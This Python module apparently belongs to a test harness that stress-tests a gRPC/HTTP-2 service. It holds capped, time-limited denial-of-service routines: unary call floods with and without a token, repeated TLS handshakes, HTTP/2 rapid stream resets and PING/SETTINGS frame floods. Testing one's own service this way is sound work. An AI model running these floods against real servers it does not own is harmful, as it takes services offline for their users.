"""Attacks by the number of requests."""

import concurrent.futures
import contextlib
import time

import wire
from attack import Attack, attack


class CallFlood(Attack):
    """Up to 100 unary calls in flight, at most 100 000."""

    def run(self, until):
        flooder = type(self.machines)(self.flooding().channel())
        request = self.machine_service.GetMachineRequest()
        waiting = set()
        for _ in range(100_000):
            if time.monotonic() > until:
                break
            if len(waiting) >= 100:
                done, waiting = concurrent.futures.wait(waiting, return_when=concurrent.futures.FIRST_COMPLETED)
            future = concurrent.futures.Future()
            call = flooder.GetMachine.future(request, timeout=5)
            call.add_done_callback(lambda call, future=future: future.set_result(call))
            future.add_done_callback(lambda future: self.call(future.result().result))
            waiting.add(future)
        concurrent.futures.wait(waiting, timeout=10)
        return self.code_words()


@attack("call_flood", "calls of a member, 100 in flight")
class MemberFlood(CallFlood):
    def flooding(self):
        return self.attacker


@attack("stranger_flood", "calls without token, 100 in flight")
class StrangerFlood(CallFlood):
    def flooding(self):
        return self.stranger


@attack("connection_flood", "TLS connections opened and closed, at most 5000")
class ConnectionFlood(Attack):
    def run(self, until):
        for _ in range(5000):
            if time.monotonic() > until:
                break
            try:
                self.stranger.secured(self.stranger.socket()).close()
                self.codes["handshakes"] += 1
            except OSError:
                self.codes["failed"] += 1
        return self.code_words()


@attack("reset_flood", "streams opened and reset at once, at most 100 000")
class ResetFlood(Attack):
    def run(self, until):
        sent, connections = 0, 0
        while time.monotonic() < until and sent < 100_000 and connections < 100:
            connections += 1
            with contextlib.suppress(*wire.ERRORS), wire.Connection(self.attacker) as connection:
                while time.monotonic() < until and sent < 100_000 and not connection.ended:
                    for _ in range(50):
                        connection.state.reset_stream(connection.open(wire.GET_BOX), 8)
                        sent += 1
                    connection.flush()
                    connection.pump(0)
        return f"{sent} streams on {connections} connections"


@attack("frame_flood", "PING and SETTINGS frames, at most 200 000")
class FrameFlood(Attack):
    def run(self, until):
        sent, connections = 0, 0
        batch = wire.frame(6, payload=bytes(8)) * 50 + wire.frame(4) * 50
        while time.monotonic() < until and sent < 200_000 and connections < 100:
            connections += 1
            with contextlib.suppress(*wire.ERRORS), wire.Connection(self.stranger) as connection:
                while time.monotonic() < until and sent < 200_000 and not connection.ended:
                    connection.socket.sendall(batch)
                    sent += 100
                    while wire.select.select([connection.socket], [], [], 0)[0]:
                        if not connection.socket.recv(1 << 16):
                            connection.ended = True
                            break
        return f"{sent} frames on {connections} connections"
